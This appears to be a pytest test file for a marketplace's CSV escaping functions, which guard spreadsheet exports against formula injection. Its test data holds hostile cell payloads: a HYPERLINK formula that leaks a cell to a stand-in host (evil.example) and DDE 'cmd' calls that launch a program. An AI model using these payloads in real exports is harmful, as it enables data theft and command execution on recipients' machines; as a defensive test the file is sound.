"""CSV cells a spreadsheet cannot run: text that would start a formula gets a leading quote on the
way out and loses exactly that quote on the way back in; numbers we write stay numbers."""

from decimal import Decimal

import pytest

from marketplace.core.csv import escape_cell, escape_row, unescape_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert escape_cell(text) == "'" + text


PLAIN = ["", "Linen shirt", "12.50", "-5", "-5.25", "0", "10:18.00; 50:15.00", "a=b", "'Tis", "'5"]


@pytest.mark.parametrize("text", [*PLAIN, "'"])
def test_plain_text_and_numbers_we_write_are_left_as_they_are(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize("value", [-5, 0, 12, Decimal("-5.00"), Decimal("12.50"), None])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert escape_cell(value) is value


@pytest.mark.parametrize(
    ("text", "written"),
    [("'=1+1", "''=1+1"), ("''@x", "'''@x"), ("'-5", "''-5")],
)
def test_a_quote_already_before_a_formula_gets_one_more(text, written):
    assert escape_cell(text) == written
    assert unescape_cell(written) == text


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, *PLAIN, "'", "'=1+1", "''@x"],
)
def test_reading_back_what_was_written_gives_the_original_text(text):
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("'=SUM(A1:A2)", "=SUM(A1:A2)"),
        ("'+1", "+1"),
        ("'-5", "-5"),
        ("'@x", "@x"),
        ("'\tx", "\tx"),
        ("'Tis the season", "'Tis the season"),
        ("'5", "'5"),
        ("'", "'"),
        ("=1+1", "=1+1"),
    ],
)
def test_reading_removes_only_a_quote_that_stands_before_a_formula(text, read):
    assert unescape_cell(text) == read


def test_a_row_is_escaped_cell_by_cell():
    assert escape_row([4, "sku", "=cmd|' /C calc'!A0: bad price", "-5", ""]) == [
        4,
        "sku",
        "'=cmd|' /C calc'!A0: bad price",
        "-5",
        "",
    ]
